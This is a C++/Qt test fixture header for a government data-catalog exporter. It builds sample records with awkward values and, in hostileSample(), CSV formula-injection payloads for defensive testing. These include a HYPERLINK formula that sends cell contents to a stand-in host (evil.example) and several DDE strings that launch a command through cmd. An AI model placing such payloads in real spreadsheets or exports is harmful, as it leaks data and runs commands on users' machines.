#pragma once

#include "core/rules/ResourceDraft.h"

#include <QHash>
#include <QList>
#include <QString>

namespace govcat::test {

// A small catalog with every exported field set, and values that trip up writers: quotes, commas,
// line breaks, leading zeros, long text, characters outside the BMP and outside GBK.
inline QList<ResourceDraft> exportSample()
{
    ResourceDraft a;
    a.id = QStringLiteral("01900000-0000-7000-8000-000000000001");
    a.name = QStringLiteral("市场主体\"登记\"信息，含逗号");
    a.code = QStringLiteral("000012345/0012");
    a.classificationCode = QStringLiteral("0101");
    a.providerName = QStringLiteral("市市场监督管理局");
    a.providerCode = QStringLiteral("01234567890123456X");
    a.internalUnit = QStringLiteral("登记注册处");
    a.abstract = QStringLiteral("第一行\n第二行，带逗号；\"引号\"\n") + QString(6000, QChar(0x6570)) +
                 QStringLiteral(" 𠀀 ₂ =SUM(A1)");
    a.formatCategory = QStringLiteral("数据库");
    a.formatType = QStringLiteral("达梦");
    a.formatOtherDesc = QStringLiteral("0007");
    a.shareType = QStringLiteral("有条件共享");
    a.shareCondition = QStringLiteral("仅限\"政务\"用途,\n需申请");
    a.noShareBasisId = QStringLiteral("basis-1");
    a.shareMethodCategory = QStringLiteral("共享平台方式");
    a.shareMethodType = QStringLiteral("接口");
    a.openToPublic = QStringLiteral("否");
    a.openCondition = QStringLiteral("不开放");
    a.updateCycle = QStringLiteral("其他");
    a.updateCycleOther = QStringLiteral("每两年");
    a.publishDate = QStringLiteral("2024-03-05");
    a.isSecret = QStringLiteral("非涉密");
    a.businessItems = QStringLiteral("企业设立登记\n企业变更登记\n0012号事项");
    a.relatedCodes = {QStringLiteral("000011111/0001"), QStringLiteral("000022222/0002")};
    a.survey = {QStringLiteral("12.5"), QStringLiteral("1000"),     QStringLiteral("0.25"), QString(),
                QStringLiteral("0"),    QStringLiteral("123456789")};
    a.status = QStringLiteral("已发布");
    ItemDraft i1 =
        ItemDraft::of(QStringLiteral("统一社会信用代码"), QStringLiteral("C"), QStringLiteral("18"));
    i1.id = QStringLiteral("item-1");
    i1.isKey = true;
    ItemDraft i2 = ItemDraft::of(QStringLiteral("注册资本，\"万元\""), QStringLiteral("N"),
                                 QStringLiteral("16"), QStringLiteral("2"));
    i2.id = QStringLiteral("item-2");
    i2.isSensitive = true;
    i2.itemShareType = QStringLiteral("不予共享");
    i2.itemShareCondition = QStringLiteral("第一行\n第二行");
    ItemDraft i3 = ItemDraft::of(QStringLiteral("0012编号"), QStringLiteral("D"));
    i3.id = QStringLiteral("item-3");
    a.items = {i1, i2, i3};

    ResourceDraft b;
    b.id = QStringLiteral("01900000-0000-7000-8000-000000000002");
    b.name = QStringLiteral("没有信息项的资源");
    b.classificationCode = QStringLiteral("301001");
    b.providerName = QStringLiteral("市公安局");
    b.providerCode = QStringLiteral("11330100002505612K");
    b.abstract = QStringLiteral("摘要");
    b.formatCategory = QStringLiteral("电子表格");
    b.formatType = QStringLiteral("xlsx");
    b.shareType = QStringLiteral("无条件共享");
    b.shareMethodCategory = QStringLiteral("共享平台方式");
    b.shareMethodType = QStringLiteral("文件");
    b.openToPublic = QStringLiteral("是");
    b.updateCycle = QStringLiteral("每月");
    b.isSecret = QStringLiteral("非涉密");
    b.status = QStringLiteral("草稿");

    ResourceDraft c = b;
    c.id = QStringLiteral("01900000-0000-7000-8000-000000000003");
    c.name = QStringLiteral("=1+1 不是公式");
    c.code = QStringLiteral("0012");
    c.status = QStringLiteral("待审核");
    ItemDraft i4 = ItemDraft::of(QStringLiteral("姓名"), QStringLiteral("C"), QStringLiteral("50"));
    i4.id = QStringLiteral("item-4");
    c.items = {i4};
    return {a, b, c};
}

// Values a hostile department can import and that a spreadsheet would run as formulas if a CSV
// export wrote them as they are (OWASP CSV injection), and values that already start with the
// quote the export adds, which must come back exactly as well. With `whitespace`, also values that
// start with a tab or a carriage return (the importer trims those in every format).
inline QList<ResourceDraft> hostileSample(bool whitespace = false)
{
    ResourceDraft d = exportSample().at(1);
    d.id = QStringLiteral("01900000-0000-7000-8000-000000000004");
    d.name = QStringLiteral("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击查看\")");
    d.abstract = QStringLiteral("=cmd|' /C calc'!A0");
    d.internalUnit = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
    d.shareCondition = QStringLiteral("+1+cmd|' /C calc'!A0");
    d.openCondition = QStringLiteral("-2+3+cmd|' /C calc'!A0");
    d.businessItems = QStringLiteral("'=已带引号的值");
    d.updateCycleOther = QStringLiteral("''+两个引号");
    if (whitespace) {
        d.formatOtherDesc = QStringLiteral("\t制表符开头");
    }
    const QStringList names = {QStringLiteral("=1+1"),  QStringLiteral("-5"),     QStringLiteral("'-5"),
                               QStringLiteral("-"),     QStringLiteral("'"),      QStringLiteral("'abc"),
                               QStringLiteral("@姓名"), QStringLiteral("+86电话")};
    for (qsizetype i = 0; i < names.size(); ++i) {
        ItemDraft item = ItemDraft::of(names.at(i), QStringLiteral("C"), QStringLiteral("50"));
        item.id = QStringLiteral("hostile-item-%1").arg(i + 1);
        d.items << item;
    }
    if (whitespace) {
        d.items << ItemDraft::of(QStringLiteral("\r回车开头"), QStringLiteral("C"));
        d.items.last().id = QStringLiteral("hostile-item-cr");
    }
    return {d};
}

inline QHash<QString, QString> exportSampleBases()
{
    return {
        {QStringLiteral("basis-1"), QStringLiteral("《中华人民共和国保守国家秘密法》第九条，\"国家秘密\"")}};
}

} // namespace govcat::test
